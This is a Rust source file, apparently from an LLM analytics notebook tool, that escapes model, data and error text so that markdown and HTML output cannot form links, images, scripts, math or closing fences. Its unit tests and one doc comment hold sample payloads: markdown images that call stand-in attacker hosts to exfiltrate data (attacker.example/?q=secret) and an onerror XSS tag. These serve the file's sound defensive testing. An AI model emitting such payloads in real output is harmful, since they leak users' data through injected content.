//! How a question cell's outputs are written: the one place that turns text from the model,
//! the data or the code into markdown or HTML. Everything here renders inert: no link, image,
//! raw HTML, math or fence can come out of text it did not write itself.

use crate::protocol::backend::{ErrorInfo, ExecuteOutcome, OutputSink};
use serde_json::{json, Value};

/// `metadata.llm_analytics.role` of an output.
pub fn role(r: &str) -> Value {
    json!({"llm_analytics": {"role": r}})
}

/// Escape HTML (also quotes, so the text is safe inside attribute values).
pub fn escape_html(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A code fence no line of `code` can close: backticks, one more than its longest run.
pub fn fence_for(code: &str) -> String {
    let longest = code.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    "`".repeat(longest.max(2) + 1)
}

/// Text from the model, the data or the code (error messages, model names) made inert in
/// markdown: HTML escaped and every markdown punctuation backslash-escaped, so it can open no
/// link, image, code span, emphasis or math.
pub fn markdown_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for c in escape_html(s).chars() {
        if c == '$' {
            out.push_str(DOLLAR);
            continue;
        }
        if "\\`*_{}[]()#+-.!|~^=\"'".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// `code` as a python block no line of it can close.
pub fn python_block(code: &str) -> String {
    let fence = fence_for(code);
    format!("{fence}python\n{code}\n{fence}")
}

/// A python code block, with optional notes (plain sentences, made inert here) above it.
pub fn code_markdown(code: &str, notes: Option<&[String]>) -> String {
    let notes = notes
        .filter(|n| !n.is_empty())
        .map(|n| {
            n.iter()
                .map(|line| format!("- {}", markdown_text(line)))
                .collect::<Vec<_>>()
                .join("\n")
                + "\n\n"
        })
        .unwrap_or_default();
    format!("{notes}{}", python_block(code))
}

/// How a `$` is written in markdown so every frontend shows a dollar and none typesets math:
/// no `$` character in the source (nbconvert's, VS Code's and GitHub's math passes read the
/// source) and the one in the page inside MathJax's ignore class (JupyterLab and nbconvert's
/// HTML typeset the page itself). A backslash escape showed as `\$` outside JupyterLab.
pub const DOLLAR: &str = "<span class=\"tex2jax_ignore\">&#36;</span>";

/// Markdown for the model's prose (the interpretation): HTML escaped; `$` written as
/// [`DOLLAR`] so "$252.80" reads as money everywhere; brackets escaped so an injected
/// `![](https://attacker/?q=...)` cannot become an image the browser fetches (or a link).
pub fn model_markdown(text: &str) -> String {
    // Quotes stay as they are: this is markdown text, not an attribute value.
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('[', "\\[")
        .replace(']', "\\]")
        .replace('$', DOLLAR)
}

/// Show one error output and end the cell with it.
pub fn fail_cell(sink: &OutputSink, ename: &str, evalue: impl Into<String>) -> ExecuteOutcome {
    let e = ErrorInfo::new(ename, evalue);
    sink.error(e.clone());
    ExecuteOutcome::error(e)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_fences_cannot_be_closed_from_inside() {
        for code in [
            "x = 1\n```\n![a](https://evil/?d=1)\n```",
            "s = '````'\n~~~~\n<img src=x onerror=alert(1)>",
            "```````",
        ] {
            let fence = fence_for(code);
            assert!(!code.contains(fence.as_str()), "{fence} inside {code}");
        }
        assert_eq!(fence_for("x = 1"), "```");
    }

    #[test]
    fn notes_are_inert_markdown() {
        let md = markdown_text("KeyError: '[x](https://evil/?d=42)' ![i](https://e/) <b> `c` $x$");
        for bad in ["](", "<b>", "![", "`c`", "$x$"] {
            assert!(!md.contains(bad), "{bad} survived in {md}");
        }
        let block = code_markdown("result = 1", Some(&["Attempt 1: [x](https://e/)".into()]));
        assert!(
            block.starts_with("- Attempt 1: \\[x\\]\\(https://e/\\)"),
            "{block}"
        );
        assert!(block.ends_with("```python\nresult = 1\n```"));
    }

    #[test]
    fn html_in_model_text_is_escaped() {
        assert_eq!(
            escape_html("<script>x</script> & **bold** \""),
            "&lt;script&gt;x&lt;/script&gt; &amp; **bold** &quot;"
        );
    }

    #[test]
    fn markdown_images_and_links_from_the_model_stay_text() {
        let md = model_markdown("see ![x](https://attacker.example/?q=secret) and [y](z)");
        assert!(!md.replace(r"\]", "").contains("]("), "{md}");
        assert!(md.contains(r"!\[x\](https://attacker.example/?q=secret)"));
    }
}
